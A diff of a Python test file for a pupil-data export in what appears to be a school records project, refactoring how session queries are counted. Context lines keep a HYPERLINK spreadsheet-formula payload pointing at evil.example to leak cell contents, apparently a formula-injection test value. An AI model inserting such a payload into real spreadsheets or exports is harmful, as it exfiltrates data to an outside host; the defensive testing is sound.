@@ -27,6 +27,7 @@ from pupils.services_retention import (
 )
 from sencotrack import freshness
 from tests import factories as f
+from tests.queries import session_queries
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
@@ -255,11 +256,10 @@ def test_the_export_takes_the_same_number_of_queries_however_much_is_held(person
     assert counts[0] == counts[1]
     # session (from Redis in production mode) + user + membership (3), pupil (1), its school (1),
     # one per table (16 today), one per audit-history table, and the access-log entry (1)
-    from django.conf import settings
-
+    
     from pupils.subject_access import _history, export_tables
 
-    session = 0 if settings.SESSION_ENGINE == "sencotrack.sessions" else 1
+    session = session_queries()
     assert counts[0] == 5 + session + len(export_tables()) + len(_history(personas.pupil))
 
 
